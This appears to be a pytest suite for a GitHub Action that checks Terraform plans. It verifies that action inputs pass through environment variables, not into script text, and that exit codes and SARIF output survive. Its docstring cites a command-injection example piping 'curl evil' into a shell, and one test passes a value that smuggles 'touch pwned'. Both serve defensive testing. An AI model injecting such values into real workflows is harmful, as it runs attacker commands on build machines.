"""The GitHub Action as published: inputs never pasted into scripts, one analysis, exit codes kept."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from conftest import REPO, sample_plan

ACTION = yaml.safe_load((REPO / "action.yml").read_text())
STEPS = ACTION["runs"]["steps"]


def test_no_input_or_context_is_pasted_into_a_script():
    """`run:` scripts read inputs from env: a value like `x"; curl evil | sh; "` stays a value."""
    assert [s["name"] for s in STEPS if "run" in s and "${{" in s["run"]] == []


def test_tfreach_is_installed_from_the_actions_own_checkout_into_a_venv():
    install = next(s for s in STEPS if s.get("name", "").startswith("Install"))
    assert install["env"]["ACTION_PATH"] == "${{ github.action_path }}"
    assert (
        '-m venv "$VENV"' in install["run"]
        and 'pip install --quiet --disable-pip-version-check "$ACTION_PATH"' in (install["run"])
    )
    python = next(s for s in STEPS if s.get("id") == "python")
    assert python["with"]["update-environment"] is False  # the job's own Python is left alone
    assert "version" not in ACTION["inputs"]  # the action's ref is the version: nothing to paste into pip


def check_step(tmp_path: Path, **inputs: str) -> tuple[int, str, Path]:
    """Run the action's check script as the runner would, with the installed tfreach."""
    step = next(s for s in STEPS if s.get("id") == "check")
    output = tmp_path / "github_output"
    env = {**os.environ, "GITHUB_OUTPUT": str(output), "TFREACH": shutil.which("tfreach") or "tfreach"}
    defaults = {"PLANS": "", "FAIL_ON": "high", "NEW_ONLY": "true", "TF_ROOT": "", "SARIF": str(tmp_path / "r.sarif")}
    env.update({**defaults, **inputs})
    result = subprocess.run(["bash", "-e", "-c", step["run"]], env=env, capture_output=True, text=True, cwd=tmp_path)
    return result.returncode, result.stdout + result.stderr, output


@pytest.mark.skipif(shutil.which("bash") is None or shutil.which("tfreach") is None, reason="needs bash and tfreach")
def test_one_analysis_writes_annotations_and_sarif_and_keeps_the_exit_code(tmp_path):
    code, said, output = check_step(tmp_path, PLANS=str(sample_plan("inspector-blog")), NEW_ONLY="false")
    assert code == 0 and "exit=1" in output.read_text()  # the last step fails the job, after the upload
    assert said.startswith("::error ") and (tmp_path / "r.sarif").stat().st_size > 0


@pytest.mark.skipif(shutil.which("bash") is None or shutil.which("tfreach") is None, reason="needs bash and tfreach")
def test_an_unreadable_plan_fails_the_step_with_tfreachs_own_message(tmp_path):
    (tmp_path / "plan.json").write_text("{not json")
    code, said, output = check_step(tmp_path, PLANS="plan.json")
    assert code == 2 and "tfreach: error: plan.json: is not valid JSON" in said and "exit=2" in output.read_text()


@pytest.mark.skipif(shutil.which("bash") is None or shutil.which("tfreach") is None, reason="needs bash and tfreach")
def test_a_hostile_input_value_is_only_a_file_name(tmp_path):
    code, _, _ = check_step(tmp_path, PLANS='x"; touch pwned; echo "', FAIL_ON="high")
    assert code == 2 and not (tmp_path / "pwned").exists()


def test_the_readme_snippets_use_refs_that_exist():
    """No release is tagged yet: the snippets name the main branch, which exists."""
    readme = (REPO / "README.md").read_text()
    assert "tfreach/tfreach@main" in readme and "@v0.1.0" not in readme and "rev: v0.1.0" not in readme
    assert "pip install tfreach\n" not in readme  # there is no release on the package index
